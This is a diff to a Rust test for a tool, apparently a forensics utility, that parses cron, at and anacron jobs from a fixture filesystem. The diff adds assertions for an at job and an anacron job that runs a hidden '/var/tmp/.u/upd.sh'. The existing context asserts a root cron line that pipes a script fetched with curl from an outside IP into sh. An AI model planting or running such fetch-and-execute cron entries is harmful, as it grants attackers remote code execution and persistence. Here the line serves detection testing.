@@ -533,7 +533,7 @@ fn crontabs_on_a_fixture_tree() {
     let d = sysroot();
     let (v, _) = eval(&format!("sys::crontabs(#{{ root: {} }})", lit(d.path())));
     let jobs = v.as_array().unwrap();
-    assert_eq!(jobs.len(), 5, "{v}");
+    assert_eq!(jobs.len(), 8, "{v}");
     let curl = by(&v, "schedule", "*/5 * * * *");
     assert_eq!(curl["user"], "root");
     assert_eq!(curl["command"], "curl -s http://203.0.113.7/x | sh");
@@ -548,6 +548,16 @@ fn crontabs_on_a_fixture_tree() {
     let alice = by(&v, "user", "alice");
     assert_eq!(alice["file"], "/var/spool/cron/crontabs/alice");
     assert_eq!(alice["schedule"], "*/10 * * * *");
+    let at = by(&v, "kind", "at");
+    assert_eq!(at["schedule"], "at 2022-07-19T03:16:00Z");
+    assert_eq!(at["file"], "/var/spool/cron/atjobs/a0000101a5b3c4");
+    let ana = by(&v, "command", "/var/tmp/.u/upd.sh");
+    assert_eq!(ana["kind"], "anacron");
+    assert_eq!(ana["line"], 4);
+    assert!(ana["schedule"]
+        .as_str()
+        .unwrap()
+        .starts_with("anacron @monthly"));
 }
 
 #[test]
